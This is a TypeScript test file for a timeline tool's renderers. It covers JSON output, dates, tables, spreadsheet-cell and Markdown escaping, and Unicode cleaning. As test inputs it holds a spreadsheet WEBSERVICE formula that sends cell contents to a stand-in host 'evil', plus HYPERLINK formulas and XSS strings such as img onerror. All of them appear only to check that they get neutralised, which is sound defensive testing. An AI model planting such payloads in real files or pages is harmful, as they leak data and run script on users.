import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  escapeMarkdown,
  safeCell,
  toCsv,
  toJson,
  toJsonPieces,
  toMarkdown,
  toTsv,
} from '../src/render/format.js';
import { displayWidth, renderColumns, wrapText } from '../src/render/table.js';
import { dayRange, fromDayNumber, longDay, shortDay } from '../src/timeline/day.js';
import { cleanText, oneLine } from '../src/timeline/text.js';

describe('JSON in pieces', () => {
  const event = (i: number) => ({
    id: `event-${i}`,
    name: `Event ${i} — ünïcödé \u0085 \u2028`,
    aliases: i % 2 ? [] : [`e${i}`],
    nested: { list: [1, { deep: 'yes' }], empty: {} },
  });

  it.each([0, 1, 2, 3000])('gives the same text as toJson for %i items', (count) => {
    const value = {
      schemaVersion: 1,
      series: 'x',
      phase: null,
      events: Array.from({ length: count }, (_, i) => event(i)),
    };
    const pieces = [...toJsonPieces(value, 'events')];
    expect(pieces.join('')).toBe(toJson(value));
    if (count === 3000) expect(pieces.length).toBeGreaterThan(1);
  });

  it('sizes its pieces by the text of the items, whatever their sizes', () => {
    // Small items, then items of about 40,000 characters each, then small ones again.
    const sizes = [...Array(500).fill(10), ...Array(12).fill(40_000), ...Array(500).fill(10), 100_000];
    const value = {
      schemaVersion: 1,
      events: sizes.map((size, i) => ({ id: `event-${i}`, notes: 'n'.repeat(size) })),
    };
    const pieces = [...toJsonPieces(value, 'events')];
    expect(pieces.join('')).toBe(toJson(value));
    // Pieces stay small (V8's large strings are slow): a large one holds a single large item, except the
    // pieces where the items turn large (twice here).
    const largeWithMany = pieces.filter((p) => p.length > 64_000 && p.match(/"id":/g)?.length !== 1);
    expect(largeWithMany.length).toBeLessThanOrEqual(2);
    expect(pieces.length).toBeLessThan(100);
  });

  it('falls back to one piece when the list is not the last key', () => {
    const value = { events: [event(1)], after: true };
    expect([...toJsonPieces(value, 'events')]).toEqual([toJson(value)]);
  });
});

describe('days without weekdays', () => {
  it('writes a day and a range as longDay and dayRange do, less the weekdays', () => {
    expect(shortDay('2014-10-16')).toBe('16 Oct 2014');
    expect(dayRange('2014-11-03', '2014-11-07', false)).toBe('3 – 7 Nov 2014');
    expect(dayRange('2014-09-25', '2014-10-15', false)).toBe('25 Sep – 15 Oct 2014');
    expect(dayRange('2014-12-29', '2015-01-02', false)).toBe('29 Dec 2014 – 2 Jan 2015');
    const weekday = /\b(Mon|Tue|Wed|Thu|Fri|Sat|Sun) /g;
    fc.assert(
      fc.property(
        fc.integer({ min: -350_000, max: 2_900_000 }),
        fc.integer({ min: 0, max: 800 }),
        (n, length) => {
          const [start, end] = [fromDayNumber(n), fromDayNumber(n + length)];
          expect(shortDay(start)).toBe(longDay(start).replace(weekday, ''));
          expect(dayRange(start, end, false)).toBe(dayRange(start, end).replace(weekday, ''));
        },
      ),
    );
  });
});

describe('tables', () => {
  it('measures terminal columns', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('\u001b[1mabc\u001b[22m')).toBe(3);
    expect(displayWidth('Thu 25 Sep – Wed 15 Oct 2014')).toBe(28);
    expect(displayWidth('語言')).toBe(4);
    expect(displayWidth('e\u0301')).toBe(1);
  });

  it('pads columns two spaces apart, without trailing spaces', () => {
    const text = renderColumns({
      head: ['Date', 'Event', 'When'],
      rows: [
        ['Thu 4 Sep 2014', 'juno-3', 'today'],
        ['Thu 16 Oct 2014', 'Juno 語言', ''],
      ],
    });
    expect(text).toBe(
      [
        'Date             Event      When',
        'Thu 4 Sep 2014   juno-3     today',
        'Thu 16 Oct 2014  Juno 語言',
        '',
      ].join('\n'),
    );
  });

  it('paints cells after the layout and wraps one column', () => {
    const text = renderColumns({
      head: ['A', 'Event', 'B'],
      rows: [['1', 'a long event name here', 'x']],
      paintHead: (t) => `<${t}>`,
      paintRow: () => (t) => `[${t}]`,
      wrap: [undefined, 10],
    });
    expect(text).toBe(
      ['<A>  <Event>       <B>', '[1]  [a long]      [x]', '   [event name]', '   [here]', ''].join('\n'),
    );
  });

  it('wraps at spaces and cuts a word longer than the width', () => {
    expect(wrapText('one two three', 7)).toEqual(['one two', 'three']);
    expect(wrapText('abcdefghij', 4)).toEqual(['abcd', 'efgh', 'ij']);
    expect(wrapText('', 4)).toEqual(['']);
  });
});

/** The name that LibreOffice ran as a live formula from juno's TSV: its quotes are the field's own. */
const WEBSERVICE = '"=WEBSERVICE(""https://evil/""&C2)"';

describe('spreadsheet cells', () => {
  it.each([
    [WEBSERVICE, `'${WEBSERVICE}`],
    ['"=HYPERLINK(""https://evil/"",""click"")"', `'"=HYPERLINK(""https://evil/"",""click"")"`],
    ['""=1+1', `'""=1+1`],
    ['" =1+1"', `'" =1+1"`],
    ["'=1+1", "''=1+1"],
    ['\'"+1', "''\"+1"],
    [' @SUM(1)', "' @SUM(1)"],
    ['\u3000-1+2', "'\u3000-1+2"],
    ['＂＝1+1', "'＂＝1+1"],
    ['＇＋1', "'＇＋1"],
    ['＠x', "'＠x"],
    // Tabs, carriage returns and invisible characters go first; what they hid is then neutralised.
    ['\t=1+1', "' =1+1"],
    ['\r=1+1', "' =1+1"],
    ['\r\n=1+1', "' =1+1"],
    ['\u200b=1+1', "'=1+1"],
    ['\u200d\u200c=1+1', "'=1+1"],
    ['\ufeff"=1+1"', `'"=1+1"`],
    ['"\u2060-2+3', `'"-2+3`],
    // Plain numbers stay numbers; anything else that starts like one is text.
    ['-5', '-5'],
    ['-5.25', '-5.25'],
    ['12', '12'],
    ['"-5"', `'"-5"`],
    ['+5', "'+5"],
    ['-', "'-"],
    // Quotes and signs elsewhere are left alone.
    ['Feature freeze', 'Feature freeze'],
    ['a=1+1', 'a=1+1'],
    ['"Juno" summit', '"Juno" summit'],
    ['R-6', 'R-6'],
  ])('%j is written as %j', (text, cell) => {
    expect(safeCell(text)).toBe(cell);
  });

  it('writes the quoted formula as text in TSV and CSV', () => {
    expect(toTsv(['name', 'n'], [[WEBSERVICE, -5]])).toBe(`name\tn\n'${WEBSERVICE}\t-5\n`);
    expect(toCsv(['name', 'n'], [[WEBSERVICE, -5]])).toBe(
      'name,n\r\n"\'""=WEBSERVICE(""""https://evil/""""&C2)""",-5\r\n',
    );
  });

  // What a spreadsheet may skip before it looks for a formula: spaces, and the quotes of a quoted field
  // (LibreOffice drops them from a TSV cell that begins with one).
  const SKIPPED = /^[\s"'＂＇]*/;
  const STARTS_FORMULA = /^[=+\-@＝＋－＠]/;
  const NUMBER = /^-?\d+(\.\d+)?$/;
  const risky = fc
    .tuple(
      fc.array(
        fc.constantFrom(
          ' ',
          '\t',
          '\r',
          '\n',
          '"',
          "'",
          '＂',
          '＇',
          '\u00a0',
          '\u3000',
          '\u200b',
          '\ufeff',
          '\u2066',
          '\u0000',
        ),
        {
          maxLength: 5,
        },
      ),
      fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', 'a', '1', '"'),
      fc.oneof(fc.string(), fc.constantFrom('5', '5.5', '1+1', 'HYPERLINK("http://x/")', '"')),
    )
    .map(([lead, start, rest]) => lead.join('') + start + rest);

  it('prefixes exactly the cells that start a formula after quotes and spaces', () => {
    fc.assert(
      fc.property(fc.oneof(risky, fc.string({ unit: 'binary' })), (text) => {
        const flat = oneLine(text);
        const formula = !NUMBER.test(flat) && STARTS_FORMULA.test(flat.replace(SKIPPED, ''));
        const cell = safeCell(text);
        expect(cell).toBe(formula ? `'${flat}` : flat);
        // Read back from either format, the cell is the same text.
        const csvCell = toCsv(['h'], [[text]]).slice('h\r\n'.length, -2);
        expect(csvCell.startsWith('"') ? csvCell.slice(1, -1).replace(/""/g, '"') : csvCell).toBe(cell);
        expect(toTsv(['h'], [[text]])).toBe(`h\n${cell}\n`);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('Markdown cells', () => {
  it.each([
    ['[click](javascript:alert(1))', '\\[click\\](javascript:alert(1))'],
    ['![x](https://evil/x.png)', '\\!\\[x\\](https\\://evil/x.png)'],
    ['<img src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;'],
    ['<javascript:alert(1)>', '&lt;javascript:alert(1)&gt;'],
    ['&lt;b&gt; &#60; &amp;', '&amp;lt;b&amp;gt; &amp;\\#60; &amp;amp;'],
    ['**bold** _it_ ~~gone~~ `code`', '\\*\\*bold\\*\\* \\_it\\_ \\~\\~gone\\~\\~ \\`code\\`'],
    ['a|b\\c', 'a\\|b\\\\c'],
    ['#1 costs $5 and $6', '\\#1 costs \\$5 and \\$6'],
    ['[^1] footnote', '\\[^1\\] footnote'],
    ['see https://example.org and WWW.example.org', 'see https\\://example.org and WWW\\.example.org'],
    ['two\nlines |', 'two lines \\|'],
    ['R-6: juno-3 (2014.2.b3)', 'R-6: juno-3 (2014.2.b3)'],
  ])('%j is written as %j', (text, cell) => {
    expect(escapeMarkdown(text)).toBe(cell);
  });

  it('escapes data cells and keeps the Markdown juno makes around them', () => {
    expect(
      toMarkdown(
        ['Week', 'Events'],
        [
          [{ markdown: `**${escapeMarkdown('R-6 *x*')}** (this week)` }, '<b>a</b>'],
          ['R-5', null],
        ],
      ),
    ).toBe(
      '| Week | Events |\n| --- | --- |\n| **R-6 \\*x\\*** (this week) | &lt;b&gt;a&lt;/b&gt; |\n| R-5 |  |\n',
    );
  });
});

describe('text cleaning', () => {
  it.each([
    ['lone \ud800 high', 'lone \ufffd high'],
    ['lone \udc00 low', 'lone \udc00 low'.replace('\udc00', '\ufffd')],
    ['ends \udbff', 'ends \ufffd'],
    ['pair 😀 kept, swapped \ude00\ud83d', 'pair 😀 kept, swapped \ufffd\ufffd'],
    ['zero\u200bwidth\u200c\u200d\u200e\u200f', 'zerowidth'],
    ['word\u2060joiner\u2061\u2062\u2063\u2064', 'wordjoiner'],
    ['inner\ufeffmark', 'innermark'],
    ['tag\u{e0001}\u{e0041}\u{e007f}s', 'tags'],
    ['iso\u2066la\u2067te\u2068d\u2069', 'isolated'],
    ['over\u202eride\u061c', 'override'],
    ['keeps 第一周 and e\u0301', 'keeps 第一周 and e\u0301'],
    // Joiners stay between visible characters (emoji sequences, Persian, Indic scripts), and go elsewhere.
    ['👨\u200d👩\u200d👧 می\u200cخواهم क्\u200dष', '👨\u200d👩\u200d👧 می\u200cخواهم क्\u200dष'],
    ['\u200d=1 a\u200c b \u200dc d\u200d', '=1 a b c d'],
  ])('%j becomes %j', (text, clean) => {
    expect(cleanText(text)).toBe(clean);
    expect(oneLine(text)).toBe(clean);
  });

  it('keeps line breaks in cleanText and folds them in oneLine', () => {
    expect(cleanText('a\r\nb\rc\n\u200bd')).toBe('a\nb\nc\nd');
    expect(oneLine('a \r\n \n b\u2028c\u2029d\u0085e')).toBe('a b c d e');
    expect(oneLine('\nR-6\n| forged | row |\n')).toBe(' R-6 | forged | row | ');
    expect(oneLine('  no break  ')).toBe('  no break  ');
  });

  const joiners = fc
    .array(fc.constantFrom('a', ' ', '👨', '\u0301', '\u200b', '\u200c', '\u200d', '\ud800', '\n'), {
      maxLength: 8,
    })
    .map((parts) => parts.join(''));
  const STRAY_JOINER =
    /(?:^|[^\p{L}\p{M}\p{N}\p{P}\p{S}])[\u200c\u200d]|[\u200c\u200d](?:$|[^\p{L}\p{M}\p{N}\p{P}\p{S}])/u;

  it('leaves well-formed text only, without invisible characters', () => {
    const loneSurrogate = /\p{Surrogate}/u;
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), joiners), (text) => {
        for (const clean of [cleanText(text), oneLine(text)]) {
          expect(clean).not.toMatch(loneSurrogate);
          expect(clean).not.toMatch(
            /[\u200b\u200e\u200f\u2060-\u2064\u2066-\u2069\ufeff]|\udb40[\udc00-\udc7f]/,
          );
          expect(clean).not.toMatch(STRAY_JOINER);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('folds a long run of spaces without a line break in one pass', { timeout: 20_000 }, () => {
    const spaces = ' '.repeat(1_000_000);
    expect(oneLine(`${spaces}x`)).toBe(`${spaces}x`);
    expect(oneLine(`a${spaces}\n${spaces}b`)).toBe('a b');
  });
});
